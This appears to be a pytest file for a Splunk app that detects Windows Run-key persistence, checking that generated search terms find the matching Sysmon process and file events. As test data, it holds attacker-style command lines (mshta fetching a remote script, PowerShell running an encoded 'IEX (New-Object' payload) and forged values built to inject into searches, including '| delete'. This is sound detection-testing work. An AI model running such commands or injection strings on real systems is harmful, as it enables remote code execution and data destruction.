"""The terms by which a finding's Events 1 and 11 are asked for find them in their raw text, and find few others."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from tests.minisplunk.apps import InstalledApp
from tests.minisplunk.macros import Macro
from tests.minisplunk.splunk import Indexer, Splunk
from tests.minisplunk.values import Row

NOW = 1_772_409_600.0
GUID = "{5aa13a44-0d74-68fc-eb1d-000000004002}"
FINDING: Row = {
    "_time": str(NOW - 300),
    "_raw": "<EventID>13</EventID>",
    "index": "sysmon",
    "host": "WS-1",
    "rk_score": "20",
    "rk_payload": r"C:\ProgramData\agent.exe",
    "rk_command": r"C:\ProgramData\agent.exe",
    "rk_process_guid": GUID,
    "orig_host": "WS-1",
}
ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" * 4
FIELDS = frozenset({*FINDING, "number"})


@pytest.fixture(scope="module")
def macros(app_dir: Path) -> dict[str, Macro]:
    """The app's macros; the findings are those that a test gives, with what the command would add."""
    name = "runkeyhunt_findings(1)"
    return {**InstalledApp(app_dir).macros(), name: Macro(name, "index=sysmon rk_score>=$threshold$", ("threshold",))}


def asked_for(macros: dict[str, Macro], findings: list[Row], raws: list[str], host: str = "WS-1") -> list[int]:
    """Give the places of the raw texts that the terms of the findings find on a host."""
    events = [
        {"_time": str(NOW - 200), "_raw": raw, "index": "sysmon", "host": host, "number": str(number)}
        for number, raw in enumerate(raws)
    ]
    splunk = Splunk(macros=macros, indexers=[Indexer([*findings, *events])], event_fields=FIELDS)
    rows = splunk.search("index=sysmon number=* [search `runkeyhunt_chain_terms(20)`]", NOW, "-1h")
    return sorted(int(str(row["number"])) for row in rows)


def command_line(text: str) -> str:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    return f"<EventID>1</EventID><Data Name='CommandLine'>{escaped}</Data>"


@pytest.mark.parametrize(
    ("payload", "command", "run"),
    [
        (r"C:\ProgramData\agent.exe", r"C:\ProgramData\agent.exe -s", r'"C:\ProgramData\agent.exe" -s'),
        (r"C:\Q & A\Plan & Cost.exe", "", r'"C:\Q & A\Plan & Cost.exe"'),
        (r"C:\Data\[new] agent.exe", "", r'"C:\Data\[new] agent.exe"'),
        ("http://203.0.113.9/s", "mshta http://203.0.113.9/s", '"C:\\Windows\\mshta.exe" http://203.0.113.9/s'),
        ("http://203.0.113.9/a?b=1&c=2", "", "mshta http://203.0.113.9/a?b=1&c=2"),
        ("http://203.0.113.9/s", f"powershell.exe -enc {ENCODED}==", f'"C:\\powershell.exe" -enc {ENCODED}=='),
        ("", f"powershell.exe -enc {ENCODED[:40]}+/{ENCODED}", f'powershell -enc "{ENCODED[:40]}+/{ENCODED}"'),
    ],
    ids=["file", "ampersand", "brackets", "address", "address with a query", "encoded", "encoded, cut by a plus sign"],
)
def test_a_run_is_found_in_either_rendering_and_other_runs_of_its_program_are_not(
    macros: dict[str, Macro], payload: str, command: str, run: str
) -> None:
    finding = {**FINDING, "rk_payload": payload, "rk_command": command or payload}
    others = [command_line(r'"C:\powershell.exe" -enc ZABpAHIA'), command_line("mshta http://203.0.113.10/t")]
    assert asked_for(macros, [finding], [command_line(run), f"CommandLine: {run}", *others]) == [0, 1]


def test_what_the_writer_did_is_found_by_its_guid(macros: dict[str, Macro]) -> None:
    drop = f"<EventID>11</EventID><Data Name='ProcessGuid'>{GUID}</Data>"
    assert asked_for(macros, [FINDING], [drop, drop.replace("4002", "4003")]) == [0]


@pytest.mark.parametrize(
    "forged", ['x" OR index=* OR "y', '{x"', "back\\slash\\", "`no_such_macro`", "every*", f"{GUID}\n| delete"]
)
def test_a_forged_guid_asks_for_nothing_and_spoils_no_search(macros: dict[str, Macro], forged: str) -> None:
    other = {**FINDING, "rk_payload": r"C:\other.exe", "rk_process_guid": forged}
    assert asked_for(macros, [FINDING, other], [f"{GUID} 11", "everything else", "other.exe"]) == [0, 2]


def test_nothing_is_asked_for_on_other_hosts(macros: dict[str, Macro]) -> None:
    assert asked_for(macros, [FINDING], [command_line("agent.exe")]) == [0]
    assert asked_for(macros, [FINDING], [command_line("agent.exe")], host="WS-2") == []


def test_a_chain_asks_for_the_terms_of_every_finding_that_it_keeps(macros: dict[str, Macro]) -> None:
    chain = macros["runkeyhunt_chain(1)"].definition
    assert "[search `runkeyhunt_chain_terms($threshold$)`]" in macros["runkeyhunt_chain_steps(1)"].definition
    assert re.findall(r"runkeyhunt_chain_steps\((.+?)\)", chain) == re.findall(r"NOT rk_score<(\d+)", chain) == ["20"]


@pytest.mark.parametrize("findings", [[], [{**FINDING, "rk_score": "19"}]], ids=["none", "none that counts"])
def test_without_a_finding_nothing_is_found(macros: dict[str, Macro], findings: list[Row]) -> None:
    assert asked_for(macros, findings, [command_line("agent.exe")]) == []


def test_the_highest_scores_come_first_where_there_are_too_many_terms(macros: dict[str, Macro]) -> None:
    low = [{**FINDING, "rk_payload": "s", "rk_process_guid": f"{{{number:08d}}}"} for number in range(5000)]
    high = {**FINDING, "rk_score": "90", "rk_payload": "s", "rk_process_guid": "{99999999}"}
    raws = ["{00000000}", "{00004999}", "{99999999}"]
    assert asked_for(macros, [*low, high], raws) == [0, 2]
